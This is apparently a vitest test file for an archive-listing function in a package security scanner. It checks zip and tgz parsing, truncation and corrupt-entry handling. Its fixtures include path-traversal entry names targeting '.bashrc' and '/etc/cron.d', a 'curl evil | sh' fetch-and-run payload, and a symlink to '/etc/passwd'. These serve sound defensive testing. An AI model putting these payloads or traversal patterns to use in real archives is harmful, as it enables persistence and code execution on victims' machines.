import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { MAX_ARCHIVE_LISTING_BYTES } from '@vigil/core';
import { afterEach, describe, expect, it } from 'vitest';
import { zipOf } from '../../../test-support/stored-zip.js';
import { listArchive } from './archive-listing.js';

/** A ustar header for one regular file of `size` bytes (checksum computed as tar does). */
function tarHeader(name: string, size: number): Buffer {
  const header = Buffer.alloc(512);
  header.write(name, 0, 'utf8');
  header.write('0000644\0', 100);
  header.write('0000000\0', 108);
  header.write('0000000\0', 116);
  header.write(`${size.toString(8).padStart(11, '0')}\0`, 124);
  header.write('00000000000\0', 136);
  header.write('        ', 148);
  header.write('0', 156);
  header.write('ustar\0', 257);
  header.write('00', 263);
  let sum = 0;
  for (const byte of header) sum += byte;
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  return header;
}

const dirs: string[] = [];
afterEach(() => {
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

function file(bytes: Buffer): string {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-archive-'));
  dirs.push(dir);
  const path = join(dir, 'artifact');
  writeFileSync(path, bytes);
  return path;
}

describe('listArchive', () => {
  it('lists zip entries named outside the archive root as declared, as a tgz listing does (probe finding: such a zip was called corrupt)', async () => {
    const zip = zipOf([
      { name: '../../home/user/.bashrc', content: Buffer.from('curl evil | sh\n') },
      { name: '/etc/cron.d/job', content: Buffer.from('* * * * * root id\n') },
      { name: 'pkg/ok.py', content: Buffer.from('print(1)\n') },
    ]);
    expect(await listArchive(file(zip))).toEqual({
      format: 'zip',
      status: 'ok',
      files: [
        { name: '../../home/user/.bashrc', size: 15 },
        { name: '/etc/cron.d/job', size: 18 },
        { name: 'pkg/ok.py', size: 9 },
      ],
      truncated: false,
      long_names_omitted: 0,
      error: null,
    });
  });

  it('leaves zip symbolic links and other non-regular Unix entries out, as tgz listings do', async () => {
    const zip = zipOf([
      { name: 'pkg/real.py', content: Buffer.from('print(1)\n'), unixMode: 0o100644 },
      { name: 'pkg/link.py', content: Buffer.from('/etc/passwd'), unixMode: 0o120777 },
      { name: 'pkg/sub', content: Buffer.alloc(0), unixMode: 0o040755 },
      { name: 'pkg/fifo', content: Buffer.alloc(0), unixMode: 0o010644 },
      { name: 'pkg/plain.txt', content: Buffer.from('made elsewhere\n') },
    ]);
    expect(await listArchive(file(zip))).toMatchObject({
      status: 'ok',
      files: [
        { name: 'pkg/real.py', size: 9 },
        { name: 'pkg/plain.txt', size: 15 },
      ],
    });
  });

  it('lists a tgz', async () => {
    const content = Buffer.from('console.log(1)\n');
    const body = Buffer.concat([tarHeader('package/index.js', content.length), content, Buffer.alloc(512 - content.length), Buffer.alloc(1024)]);
    expect(await listArchive(file(gzipSync(body)))).toEqual({
      format: 'tgz',
      status: 'ok',
      files: [{ name: 'package/index.js', size: content.length }],
      truncated: false,
      long_names_omitted: 0,
      error: null,
    });
  });

  it('counts rather than lists a zip entry whose name is longer than 4,096 bytes, as in a tgz', async () => {
    const atLimit = `pkg/${'a'.repeat(4092)}`;
    const zip = zipOf([
      { name: 'pkg/ok.py', content: Buffer.from('1') },
      { name: `pkg/${'a'.repeat(60_000)}`, content: Buffer.from('2') },
      { name: atLimit, content: Buffer.from('3') },
      { name: `${atLimit}b`, content: Buffer.from('4') },
    ]);
    expect(await listArchive(file(zip))).toEqual({
      format: 'zip',
      status: 'ok',
      files: [
        { name: 'pkg/ok.py', size: 1 },
        { name: atLimit, size: 1 },
      ],
      truncated: false,
      long_names_omitted: 2,
      error: null,
    });
  });

  it('stops a zip listing before its files pass 4 MiB as JSON, truncated', async () => {
    // 1,100 names of 4,000 bytes: about 4.4 MB of JSON.
    const names = Array.from({ length: 1100 }, (_, i) => `pkg/${String(i).padStart(4, '0')}${'z'.repeat(3992)}`);
    const listing = await listArchive(file(zipOf(names.map((name) => ({ name, content: Buffer.from('x') })))));
    expect(listing).toMatchObject({ format: 'zip', status: 'ok', truncated: true, long_names_omitted: 0 });
    const bytes = Buffer.byteLength(JSON.stringify(listing.files));
    expect(bytes).toBeLessThanOrEqual(MAX_ARCHIVE_LISTING_BYTES);
    expect(bytes + Buffer.byteLength(JSON.stringify({ name: names[0], size: 1 })) + 1).toBeGreaterThan(MAX_ARCHIVE_LISTING_BYTES);
    expect(listing.files).toEqual(names.slice(0, listing.files!.length).map((name) => ({ name, size: 1 })));
  });

  it('reports an entry that claims more bytes than the archive holds as corrupt, without an unhandled error (probe finding)', async () => {
    const body = gzipSync(Buffer.concat([tarHeader('a.bin', 99_999_999), Buffer.alloc(512)]));
    const listing = await listArchive(file(body));
    expect(listing).toMatchObject({ format: 'tgz', status: 'corrupt', files: null });
    // Whatever the entry stream emits late must not reach the process as an unhandled error.
    await new Promise((resolve) => setTimeout(resolve, 50));
  });
});
